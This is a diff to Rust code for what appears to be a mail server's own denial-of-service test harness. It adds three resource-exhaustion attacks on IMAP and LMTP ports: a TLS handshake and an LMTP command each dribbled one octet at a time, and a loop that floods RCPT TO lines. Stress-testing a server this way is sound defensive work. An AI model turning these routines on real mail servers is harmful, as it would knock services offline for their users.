@@ -85,11 +85,14 @@ enum Attack {
     SlowReaders,
     Pipelines,
     HalfOpen,
+    SlowHandshake,
+    SlowCommand,
+    Recipients,
     EveryUid,
     EmptyString,
 }
 
-const ATTACKS: [(Attack, &str); 12] = [
+const ATTACKS: [(Attack, &str); 15] = [
     (Attack::Literal, "literals without end, before login"),
     (Attack::Line, "lines without end, before login"),
     (Attack::Smtp, "LMTP lines without end"),
@@ -100,6 +103,9 @@ const ATTACKS: [(Attack, &str); 12] = [
     (Attack::SlowReaders, "FETCH of everything, and nothing read"),
     (Attack::Pipelines, "commands by the hundred, and no answer read"),
     (Attack::HalfOpen, "TLS handshakes that are never finished"),
+    (Attack::SlowHandshake, "TLS handshakes, one octet after the other"),
+    (Attack::SlowCommand, "LMTP commands, one octet after the other"),
+    (Attack::Recipients, "LMTP recipients without end"),
     (Attack::EveryUid, "UID FETCH 1:4294967295"),
     (Attack::EmptyString, "SEARCH for the empty string"),
 ];
@@ -410,6 +416,15 @@ impl Attack {
                 }
                 attacker.until(b"never").await
             }
+            Attack::SlowHandshake => {
+                let attacker = Attacker::connect_silently(nth, ports.imaps, pause).await?;
+                attacker.dribble(&[22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc, 3, 3], 7).await
+            }
+            Attack::SlowCommand => {
+                let attacker = Attacker::connect(nth, ports.lmtp, pause).await?;
+                attacker.dribble(b"LHLO ", b'x').await
+            }
+            Attack::Recipients => recipients(nth, ports.lmtp, pause).await,
             Attack::EveryUid => {
                 let mut attacker = Attacker::login(nth, ports.imap, pause).await?;
                 attacker
@@ -447,6 +462,24 @@ async fn message(
         tokio::time::sleep(pause).await;
     }
     Ok(())
+}
+
+/// As many recipients as one message may have and many more, and then the message; again and again.
+async fn recipients(nth: usize, lmtp: SocketAddr, pause: Duration) -> Result<()> {
+    let mut attacker = Attacker::connect(nth, lmtp, pause).await?;
+    attacker.say(b"LHLO x\r\n").await?;
+    loop {
+        attacker.say(b"RSET\r\nMAIL FROM:<>\r\n").await?;
+        for block in 0..50 {
+            let each = (0..100).map(|n| format!("RCPT TO:<victim+{}@localhost>\r\n", 100 * block + n));
+            // VRFY is answered 252, and nothing else is.
+            attacker.say((each.collect::<String>() + "VRFY x\r\n").as_bytes()).await?;
+            attacker.until(b"252").await?;
+            tokio::time::sleep(pause).await;
+        }
+        attacker.say(b"DATA\r\nSubject: x\r\n\r\nx\r\n.\r\nVRFY x\r\n").await?;
+        attacker.until(b"252").await?;
+    }
 }
 
 /// A connection that costs this side little.
@@ -493,6 +526,15 @@ impl Attacker {
             self.say(piece).await?;
             tokio::time::sleep(self.pause).await;
         }
+    }
+
+    /// Sends `head` and then filling for ever, an octet at a time.
+    async fn dribble(mut self, head: &[u8], filling: u8) -> Result<()> {
+        for octet in head.iter().copied().chain(std::iter::repeat(filling)) {
+            self.say(&[octet]).await?;
+            tokio::time::sleep(self.pause).await;
+        }
+        Ok(())
     }
 
     /// Sends `first`, then `command` whenever the one before was answered.
